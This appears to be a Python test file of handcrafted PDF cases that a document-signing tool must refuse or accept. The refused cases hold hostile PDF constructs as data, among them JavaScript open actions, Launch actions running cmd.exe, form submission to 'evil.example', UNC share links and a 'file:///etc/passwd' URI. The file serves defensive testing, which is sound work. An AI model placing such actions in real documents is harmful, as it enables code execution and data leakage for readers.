"""Sound files that do something, lead elsewhere, or carry more than their pages."""

from collections.abc import Callable

from tests.signing.pdf.file_builders import CATALOGUE, PAGE, TREE, written_by_hand
from tests.signing.pdf.signing_helper import pdf, sign, signed_by

from .case import Case, refused, taken


def with_(*more: bytes, catalogue: bytes = b"", page: bytes = b"") -> Callable[[], bytes]:
    """A one-page file with additions to its catalogue or page. Further objects are numbered from 4."""
    return lambda: written_by_hand(CATALOGUE[:-2] + catalogue + b" >>", TREE % 1, PAGE % page, *more)


def action(body: bytes) -> Callable[[], bytes]:
    """A link on the page that does this."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>" % body
    return with_(link, page=b"/Annots [4 0 R] ")


def annotation(body: bytes) -> Callable[[], bytes]:
    return with_(b"<< /Type /Annot /Rect [0 0 9 9] %s >>" % body, page=b"/Annots [4 0 R] ")


def field(body: bytes) -> Callable[[], bytes]:
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] %s >>" % body
    return with_(widget, catalogue=b"/AcroForm << /Fields [4 0 R] >>", page=b"/Annots [4 0 R] ")


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
CONTENT: list[Case] = [
    *refused(
        "document_has_scripts",
        script_on_opening=with_(catalogue=b"/OpenAction " + JS),
        script_on_closing=with_(catalogue=b"/AA << /WC %s >>" % JS),
        script_among_the_names=with_(catalogue=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % JS),
        script_of_a_page=with_(page=b"/AA << /O %s >> " % JS),
        script_of_a_link=action(b"/S /JavaScript /JS (x)"),
        script_of_a_field=field(b"/AA << /K %s >>" % JS),
        script_of_an_annotation=annotation(b"/Subtype /Text /Contents (a) /A " + JS),
        script_after_a_harmless_action=action(b"/S /URI /URI (https://a.example) /Next " + JS),
        script_whose_name_is_escaped=action(b"/S /J#61v#61Script /#4aS (x)"),
        script_whose_name_lies_elsewhere=with_(
            b"<< /S 5 0 R /J#53 6 0 R >>", b"/JavaScript", b"(x)", catalogue=b"/OpenAction 4 0 R"
        ),
        script_in_a_stream=with_(
            b"<< /Length 1 >>\nstream\nx\nendstream", catalogue=b"/OpenAction << /S /JavaScript /JS 4 0 R >>"
        ),
        script_of_no_kind=action(b"/S /Unknown /JS (x)"),
        script_nobody_points_at=with_(JS),
        script_in_the_outlines=with_(
            b"<< /First 5 0 R /Last 5 0 R >>",
            b"<< /Title (a) /Parent 4 0 R /A %s >>" % JS,
            catalogue=b"/Outlines 4 0 R",
        ),
        action_on_print=with_(catalogue=b"/AA << /WP << /S /GoTo /D [3 0 R /Fit] >> >>"),
        form_that_is_sent=action(b"/S /SubmitForm /F (https://evil.example)"),
        form_that_is_filled=action(b"/S /ImportData /F (a.fdf)"),
        form_that_is_reset=action(b"/S /ResetForm"),
        content_that_is_hidden=action(b"/S /Hide /T (a)"),
        layers_that_are_switched=action(b"/S /SetOCGState /State []"),
    ),
    *refused(
        "document_opens_files",
        program_started=action(b"/S /Launch /F (cmd.exe)"),
        program_started_on_opening=with_(catalogue=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
        other_document=action(b"/S /GoToR /F (other.pdf) /D [0 /Fit]"),
        other_document_on_a_share=action(b"/S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit]"),
        embedded_document=action(b"/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]"),
        thread_of_another_document=action(b"/S /Thread /F (other.pdf) /D 0"),
        link_to_a_file=action(b"/S /URI /URI (file:///etc/passwd)"),
        link_to_a_script=action(b"/S /URI /URI (JavaScript:alert\\(1\\))"),
        link_to_a_share=action(b"/S /URI /URI (\\\\\\\\evil.example\\\\share)"),
        link_to_a_script_after_blanks=action(b"/S /URI /URI ( \\tjavascript :x)"),
        content_in_another_file=with_(
            b"<< /Length 0 /F (other.bin) >>\nstream\n\nendstream", page=b"/Contents 4 0 R "
        ),
        page_of_another_file=with_(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (o.pdf) /Page 0 >> /Length 0 >>\n"
            b"stream\n\nendstream"
        ),
    ),
    *refused(
        "document_has_attachments",
        attachment=with_(FILE, EMBEDDED, catalogue=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"),
        attachment_as_a_note=with_(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (a) >>",
            page=b"/Annots [4 0 R] ",
        ),
        attachment_associated=with_(FILE, EMBEDDED, catalogue=b"/AF [4 0 R]"),
        attachment_nobody_points_at=with_(b"null", EMBEDDED),
        portfolio=with_(catalogue=b"/Collection << /View /T >>"),
    ),
    *refused(
        "document_has_media",
        rich_media=annotation(b"/Subtype /RichMedia /RichMediaContent << >>"),
        film=annotation(b"/Subtype /Movie /Movie << >>"),
        sound=annotation(b"/Subtype /Sound"),
        screen=annotation(b"/Subtype /Screen"),
        three_dimensions=annotation(b"/Subtype /3D"),
        rendition=action(b"/S /Rendition"),
        sound_played=action(b"/S /Sound"),
    ),
    *refused(
        "document_has_xfa",
        dynamic_form=with_(catalogue=b"/AcroForm << /Fields [] /XFA [(template) (x)] >>"),
        form_to_be_rendered=with_(catalogue=b"/NeedsRendering true"),
    ),
    *refused(
        "document_signed",
        signed_once=lambda: signed_by("Asha Rao"),
        signed_twice=lambda: signed_by("Asha Rao", "Ravi Sen"),
        signed_and_updated=lambda: sign(signed_by("Asha Rao"), name="Ravi Sen", field="Second"),
        signature_without_its_range=with_(b"<< /Type /Sig /Filter /Adobe.PPKLite /Contents <00> >>"),
    ),
    taken("link to the web", action(b"/S /URI /URI (https://example.com/?a=file:b)")),
    taken("link to an address without a scheme", action(b"/S /URI /URI (www.example.com)")),
    taken("link within the document", action(b"/S /GoTo /D [3 0 R /Fit]")),
    taken("next page", action(b"/S /Named /N /NextPage")),
    taken("opens at a page", with_(catalogue=b"/OpenAction [3 0 R /XYZ null null 0]")),
    taken(
        "text that speaks of scripts",
        annotation(b"/Subtype /Text /Contents (/S /JavaScript /JS /Launch /XFA)"),
    ),
    taken(
        "font by the name of AA", with_(page=b"/X << /Font << /AA << /Type /Font /X /Y >> /JS << >> >> >> ")
    ),
    taken("field that is filled in", field(b"/V (Asha Rao)")),
    taken(
        "place for a signature",
        with_(
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 9 9] >>",
            catalogue=b"/AcroForm << /Fields [4 0 R] /SigFlags 1 >>",
            page=b"/Annots [4 0 R] ",
        ),
    ),
    taken("comment", annotation(b"/Subtype /Text /Contents (Please check)")),
    taken("plain page", lambda: pdf()),
]
